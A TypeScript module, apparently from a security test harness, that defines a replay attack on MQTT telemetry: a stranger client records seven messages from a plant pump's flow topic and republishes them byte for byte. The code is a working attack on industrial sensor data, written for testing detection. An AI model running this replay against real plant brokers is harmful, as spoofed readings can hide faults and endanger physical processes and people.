import { type Attack, asStranger, pause } from './attack-scene';

/** Written every five seconds by its controller. */
const topic = 'plant/line-2/pump-1/flow';
const recorded = 7;
const recordMsMax = 60_000;
const tickMs = 200;
const pauseMs = 1500;

/** Listens to one sensor, then writes what it heard again, byte for byte and in the same order. */
export const replayedTelemetry: Attack = (scene) =>
  asStranger(scene, 'recorder', async (client, clientId) => {
    const tape: Buffer[] = [];
    client.on('message', (_topic, payload) => {
      if (tape.length < recorded) tape.push(payload);
    });
    await client.subscribeAsync(topic, { qos: 0 });
    for (let waited = 0; tape.length < recorded && waited < recordMsMax; waited += tickMs)
      await pause(scene, tickMs);
    await client.unsubscribeAsync(topic);
    for (const payload of tape) {
      await client.publishAsync(topic, payload, { qos: 0 });
      await pause(scene, pauseMs);
    }
    return `MQTT client ${clientId} listened to ${topic} and then wrote the ${tape.length} messages it had heard again, byte for byte.`;
  });
